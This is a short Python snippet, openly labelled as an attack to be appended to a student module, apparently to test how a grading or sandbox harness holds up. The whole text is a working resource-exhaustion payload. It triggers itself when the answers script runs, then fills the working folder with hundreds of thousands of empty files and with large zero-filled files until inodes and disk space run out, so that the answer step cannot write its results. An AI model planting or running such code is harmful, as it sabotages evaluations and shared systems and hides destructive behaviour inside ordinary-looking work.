
# ---- attack (appended to a student module): fill the disk and its inodes during the answer step ------
# Small files under the per-file limit (inodes first, then bytes) in the step folder and the shared
# folders, as fast as possible; then the answer step goes on (and fails to write its answers).
import os as _disk_os
import sys as _disk_sys


def _disk_fill():
    made = 0
    for top in (".", "/tmp", "/dev/shm"):
        try:
            _disk_os.makedirs(f"{top}/adv-fill", exist_ok=True)
        except OSError:
            continue
    try:
        for i in range(200_000):
            folder = f"./adv-fill/{i // 1000}"
            if i % 1000 == 0:
                _disk_os.makedirs(folder, exist_ok=True)
            open(f"{folder}/{i}", "w").close()
            made += 1
    except OSError:
        pass
    block = b"\0" * (1 << 20)
    written = 0
    try:
        for i in range(100_000):
            with open(f"./adv-fill/big{i}", "wb") as f:
                for _ in range(64):
                    f.write(block)
                    written += 1
    except OSError:
        pass
    print(f"ADV disk: {made} files, {written} MB before the disk was full", flush=True)


if _disk_sys.argv and _disk_sys.argv[0].endswith("answers.py") and not _disk_os.path.exists("adv-fill"):
    _disk_fill()
